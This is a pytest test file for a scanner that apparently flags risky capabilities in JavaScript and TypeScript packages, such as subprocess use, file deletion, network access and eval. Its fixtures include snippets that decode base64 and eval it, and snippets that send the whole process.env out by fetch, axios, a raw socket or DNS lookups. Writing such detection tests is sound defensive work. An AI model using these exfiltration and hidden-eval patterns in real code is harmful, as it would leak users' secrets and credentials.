"""What a file of JavaScript or TypeScript can do: aliases, moments, imports, bounds."""

import time

import pytest

from holdfast.model.scan import Unread
from holdfast.risk.javascript_code import scan_javascript

# text -> (rule without "javascript-", what was found, moment)
_USES = [  # one line each: text, rule, found, moment
    ("const {exec: run} = require('child_process'); run('ls')", "subprocess", "child_process.exec", "import"),
    ("import * as cp from 'node:child_process'\nexport const f = () => cp.fork(x)", "subprocess", "child_process.fork", "call"),  # noqa: E501
    ("import {spawn as s} from 'child_process'; s('ls')", "subprocess", "child_process.spawn", "import"),
    ("import cp from 'child_process'; const {spawn} = cp; spawn('ls')", "subprocess", "child_process.spawn", "import"),
    ("require('child_' + `process`)['ex' + 'ec'](1)", "subprocess", "child_process.exec", "import"),
    ("require('\\x63hild_process').exec(1)", "subprocess", "child_process.exec", "import"),
    ("const a = require('child_process'), b = a; b[name]()", "subprocess", "child_process[computed]", "import"),
    ("const cp = require('child_process'); with (cp) { exec('x') }", "subprocess", "child_process", "import"),
    ("(function (require) { require('child_process').exec('ls') })(require)", "subprocess", "child_process.exec", "import"),  # noqa: E501
    ("const m = await import('child_process'); m.exec('x')", "subprocess", "child_process.exec", "import"),
    ("import('fs').then((fs) => fs.rmSync('x'))", "file-write", "fs.rmSync", "call"),
    ("const fs_1 = __importStar(require('fs')); fs_1.default.rmSync('x')", "file-write", "fs.rmSync", "import"),
    ("function _fs() { const data = require('fs'); return data }\n_fs().rmSync('x')", "file-write", "fs.rmSync", "import"),  # noqa: E501
    ("const {promises: {writeFile: w}} = require('fs'); w('x')", "file-write", "fs.promises.writeFile", "import"),
    ("import {writeFile} from 'fs/promises'; writeFile('x')", "file-write", "fs.promises.writeFile", "import"),
    ("import {createRequire} from 'module'; const r = createRequire(import.meta.url); r('net').connect(1)", "network", "net.connect", "import"),  # noqa: E501
    ("process.getBuiltinModule('net').connect(1)", "network", "net.connect", "import"),
    ("require.main.require('net').connect(1)", "network", "net.connect", "import"),
    ("require('module')._load('net').connect(1)", "network", "net.connect", "import"),
    ("require('module').register('./hooks.mjs')", "computed-import", "module.register", "import"),
    ("process.execve('/bin/sh')", "subprocess", "process.execve", "import"),
    ("x = globalThis['process'].env.GITHUB_TOKEN", "credential-variable", "process.env.GITHUB_TOKEN", "import"),
    ("function f() { return {...process.env} }", "whole-environment", "process.env", "call"),
    ("class A { static x = eval(a) }", "eval", "eval", "import"),
    ("class A { x = eval(a) }", "eval", "eval", "call"),
    ("!function () { eval(a) }()", "eval", "eval", "import"),
    ("(function (f) { f() })(function () { eval(a) })", "eval", "eval", "import"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "rule", "found", "moment"), _USES, ids=lambda value: str(value)[:40])
def test_a_value_is_followed_to_where_it_is_used(text: str, rule: str, found: str, moment: str) -> None:
    """Aliases, patterns, computed texts and wrappers hide no use, and the moment is that of the code around it."""
    evidence = scan_javascript("a.js", text.encode()).evidence
    assert (f"javascript-{rule}", found, moment) in {(one.rule, one.found, one.moment) for one in evidence}


@pytest.mark.parametrize(
    "text",
    [
        "function f(fs) { fs.rmSync('x') } const fs = require('fs'); fs.readFileSync('x')",
        "{ const e = require('fs'); e.readFileSync('x') } { const e = {}; e.rmSync('x') }",
        "if (typeof process !== 'undefined' && process.env && process.env.DEBUG) run()",
        "// eval(x)\nconst eval_ = 'eval(x)'; object.eval(x); object.fetch(y)",
        "const fetch = (url) => url; fetch('x')",
        "import {STATUS_CODES, METHODS} from 'http'; console.log(STATUS_CODES, METHODS)",
        "const net = require('net'); if (net.isIP(x)) run()",
        "require(path.join(__dirname, '..', 'package.json'))",
    ],
)
def test_what_only_looks_like_a_use_is_none(text: str) -> None:
    """Other scopes' names, guards, comments, texts and harmless members show no capability."""
    assert scan_javascript("a.js", text.encode()).evidence == ()


# What is decoded and run, and the environment that is sent, whatever names, texts and encodings lie between.
_DECODED = "eval of decoded text"
_SENT = "process.env as a whole, sent"
_CARRIED = [
    ("const p = atob(x); eval(p)", _DECODED),
    ("let p; p = Buffer.from(x, 'base64').toString(); { const q = `${p};`; eval(q) }", _DECODED),
    ("function f(x) { var p = zlib.inflateSync(Buffer.from(x, 'hex')); eval(String(p)) }", _DECODED),
    ("fetch(to, {method: 'POST', body: JSON.stringify(process.env)})", _SENT),
    ("const {env} = process; const a = {...env}; require('http').request(to).on('error', f).end(String(a))", _SENT),
    ("import net from 'net'; const s = net.connect(1, to); s.on('x', () => s.write(btoa(Object.entries(process.env))))", _SENT),  # noqa: E501
    ("const axios = require('axios'); const body = JSON.stringify({e: process.env}); axios.post(to, body)", _SENT),
    ("const axios_1 = __importDefault(require('axios')); axios_1.default.post(to, process.env)", _SENT),
    ("import {request as r} from 'undici'; r(to + '?' + new URLSearchParams(process.env).toString())", _SENT),
    ("const dns = require('dns'); dns.lookup(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.x.example', f)", _SENT),  # noqa: E501
]  # fmt: skip


@pytest.mark.parametrize(("text", "found"), _CARRIED, ids=lambda value: str(value)[:40])
def test_a_value_is_followed_to_what_runs_or_sends_it(text: str, found: str) -> None:
    """Names, texts and encodings between a value and the call that gets it hide nothing."""
    assert found in {one.found for one in scan_javascript("a.js", text.encode()).evidence}


@pytest.mark.parametrize(
    "text",
    [
        "const p = atob(x); show(p); eval(y)",
        "{ const p = atob(x); show(p) } { const p = y; eval(p) }",
        "const p = atob(x); const f = (p) => eval(p); f(y)",
        "const bytes = Buffer.from(x, 'utf8'); eval(bytes.toString())",
        "const p = compile(atob(x)); eval(p.name)",
        "const env = process.env; fetch(env.URL, {headers: {authorization: env.TOKEN}})",
        "fetch(to, {agent: proxyOf(process.env), body: JSON.stringify({mode: process.env.NODE_ENV})})",
        "const c = require('child_process'); c.spawn('x', {env: {...process.env}}); fetch(to)",
        "const axios = require('axios'); const e = {...process.env}; log(e); axios.post(to, {e: 1})",
        "const env = process.env; module.exports = (fetch) => fetch(JSON.stringify(env))",
    ],
)
def test_what_is_neither_run_nor_sent_is_not_told(text: str) -> None:
    """Other scopes, members, other functions and processes of our own are no way out."""
    rules = {one.rule for one in scan_javascript("a.js", text.encode()).evidence}
    assert not rules & {"javascript-encoded-code", "javascript-environment-sent"}


def test_imports_are_names_of_packages_with_their_moment() -> None:
    """Paths and Node's own modules are none; of a package the name counts, and the earliest known moment is said."""
    text = (
        "import a from '@scope/a/deep.js'\nexport * from 'b/c'\nimport './own'\nimport 'node:fs'\nimport '#inner'\n"
        "const d = require('d')\nfunction f() { return require('e') }\nconst g = () => import('g/x')\nrequire('punycode/')"  # noqa: E501
    )
    found = [(one.name, one.line, one.moment) for one in scan_javascript("a.mjs", text.encode()).imports]
    assert found == [
        ("@scope/a", 1, "import"),
        ("b", 2, "import"),
        ("d", 6, "import"),
        ("e", 7, "call"),
        ("g", 8, "call"),
        ("punycode", 9, "import"),
    ]


def test_types_do_nothing() -> None:
    """Declarations and imports of types alone show nothing; values in the same file do."""
    assert scan_javascript("a.d.ts", b"import fs from 'fs'; eval('x')").imports == ()
    text = (
        "import type {A} from 'a'; import {type B} from 'b'; import {type C, d} from 'c';\n"
        "import fs = require('fs');\nexport const f = <T,>(x: T): void => (fs as any).rmSync(x!)"
    )
    scan = scan_javascript("a.ts", text.encode())
    assert [one.name for one in scan.imports] == ["c"]
    assert [(one.found, one.line, one.moment) for one in scan.evidence] == [("fs.rmSync", 3, "call")]
    assert not scan.unread


def test_markup_and_foreign_types_are_understood() -> None:
    """JSX, and types in a file that is called .js, are no breaks."""
    assert not scan_javascript("a.jsx", b"import a from 'a'; export default () => <a.B c={eval(x)}>d</a.B>").unread
    assert not scan_javascript(
        "a.js", b"import a from 'a'; export function f(x: number): string { return eval(x) }"
    ).unread


def test_broken_source_is_read_as_far_as_it_goes_and_named() -> None:
    """What cannot be understood is said with its line; what stands around it counts."""
    scan = scan_javascript("a.js", b"require('child_process').exec('x')\n\nvar = = ;\n")
    assert [one.found for one in scan.evidence] == ["child_process.exec"]
    assert scan.unread == (Unread("a.js", "line 3 is not understood; what stands around it was read"),)


@pytest.mark.parametrize(
    "source",
    [
        "export { default } from '../a.json' with { type: 'json' };",
        "export * from './entry' with {\n  'turbopack-transition': \"next-server-utility\",\n};",
        "import a from './a.json' with { type: 'json' };\nexport * from './b' with {}",
    ],
)
def test_attributes_of_what_is_exported_are_no_break(source: str) -> None:
    """What follows stands on its line."""
    scan = scan_javascript("a.mjs", f"{source}\neval(x)".encode())
    assert not scan.unread
    assert [one.line for one in scan.evidence] == [source.count("\n") + 2]


@pytest.mark.parametrize(
    "source",
    ["'x' with {a: '\"; eval(x); \"'}", "export * from 'a' with {a: eval(x)}", "export * from 'a' with {b}; eval(x)"],
)
def test_nothing_that_runs_hides_in_attributes(source: str) -> None:
    """What is no attribute stays a break, and is read as far as it goes."""
    assert scan_javascript("a.mjs", source.encode()).unread


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"eval(x);" * 2_000_000, "16000000 bytes, more than 12000000"),
        (b"eval" + b"(" * 5_000, "brackets nested deeper than 2000"),
        (b"eval(" + b"a?" * 200_000, "more than 150000 question marks or arrows"),
        (b"eval(x)" + b"[a,b]" * 700_000, "more than 1200000 signs of punctuation"),
    ],
)
def test_what_is_beyond_bounds_is_named_at_once(data: bytes, reason: str) -> None:
    """A file that would take too much memory is not parsed, and the reason is said."""
    assert scan_javascript("a.js", data).unread == (Unread("a.js", reason),)


def test_other_encodings_are_read() -> None:
    """A byte order mark says UTF-16; bytes that are no UTF-8 harm nothing."""
    assert scan_javascript("a.js", "eval(x)".encode("utf-16")).evidence
    assert scan_javascript("a.js", b"// caf\xe9\neval(x)").evidence[0].line == 2


def test_minified_code_is_read() -> None:
    """A bundle of small functions is read wholly, its one use found."""
    data = b"!function(e,t){var n=e;function r(e){return n[e]||t(e)}n.a=r(1)}({},x=>x);" * 3_000
    scan = scan_javascript("a.js", data + b"var q=require('net');q.connect(1)")
    assert [one.found for one in scan.evidence] == ["net.connect"]
    assert not scan.unread


def test_five_megabytes_of_minified_code_are_read_in_bounded_time() -> None:
    """Found is what stands at the very end; the time is that of any other code."""
    piece = (
        b"!function(e,t){var n=e;function r(e){return n[e]||t(e)}n.m='"
        + b"some words, as programs carry them; " * 5
        + b"'}({},x=>x);"
    )
    data = piece * (5_000_000 // len(piece)) + b"var q=require('net');q.connect(1)"
    start = time.process_time()
    scan = scan_javascript("a.js", data)
    assert time.process_time() - start < 40
    assert [one.found for one in scan.evidence] == ["net.connect"]
    assert not scan.unread
